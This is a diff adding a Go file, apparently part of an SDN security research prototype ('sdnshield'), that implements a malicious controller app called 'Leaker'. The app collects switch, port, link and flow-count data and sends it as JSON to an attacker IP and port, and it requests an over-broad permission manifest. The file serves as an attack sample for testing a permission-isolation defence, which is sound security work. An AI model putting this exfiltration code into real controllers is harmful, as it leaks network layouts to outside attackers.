@@ -1,0 +1,90 @@
+package malicious
+
+import (
+	"encoding/json"
+
+	"sdnshield/internal/isolation"
+	"sdnshield/internal/of"
+)
+
+// Leaker is the Class 2 attack app: it collects the network topology and
+// switch/port configuration and posts the dump to an outside attacker
+// over the controller host's network stack.
+type Leaker struct {
+	attackState
+	name string
+	// AttackerIP and AttackerPort locate the exfiltration drop box.
+	AttackerIP   of.IPv4
+	AttackerPort uint16
+
+	api isolation.API
+}
+
+// NewLeaker builds the app. Name defaults to "leaker".
+func NewLeaker(name string, attackerIP of.IPv4, attackerPort uint16) *Leaker {
+	if name == "" {
+		name = "leaker"
+	}
+	return &Leaker{name: name, AttackerIP: attackerIP, AttackerPort: attackerPort}
+}
+
+// Name implements isolation.App.
+func (l *Leaker) Name() string { return l.name }
+
+// Init implements isolation.App.
+func (l *Leaker) Init(api isolation.API) error {
+	l.api = api
+	return nil
+}
+
+// networkDump is the stolen document.
+type networkDump struct {
+	Switches []uint64            `json:"switches"`
+	Ports    map[uint64][]uint16 `json:"ports"`
+	Links    []string            `json:"links"`
+	Stats    map[uint64]uint64   `json:"flowCounts"`
+}
+
+// Exfiltrate performs the attack once: gather everything visible, then
+// ship it out. Under SDNShield either the collection or (decisively) the
+// host-network connect is denied.
+func (l *Leaker) Exfiltrate() error {
+	dump := networkDump{Ports: make(map[uint64][]uint16), Stats: make(map[uint64]uint64)}
+
+	switches, err := l.api.Switches()
+	if l.record(err) == nil {
+		for _, sw := range switches {
+			dump.Switches = append(dump.Switches, uint64(sw.DPID))
+			for _, p := range sw.Ports {
+				dump.Ports[uint64(sw.DPID)] = append(dump.Ports[uint64(sw.DPID)], p.Port)
+			}
+			if ss, err := l.api.SwitchStats(sw.DPID); l.record(err) == nil {
+				dump.Stats[uint64(sw.DPID)] = uint64(ss.FlowCount)
+			}
+		}
+	}
+	if links, err := l.api.Links(); l.record(err) == nil {
+		for _, link := range links {
+			dump.Links = append(dump.Links, link.String())
+		}
+	}
+
+	payload, err := json.Marshal(dump)
+	if err != nil {
+		return err
+	}
+	conn, err := l.api.HostConnect(l.AttackerIP, l.AttackerPort)
+	if l.record(err) != nil {
+		return err
+	}
+	conn.Send(payload)
+	return nil
+}
+
+// RequestedPermissions is the over-broad manifest the attacker ships.
+func (l *Leaker) RequestedPermissions() string {
+	return `PERM visible_topology
+PERM read_statistics
+PERM host_network
+`
+}
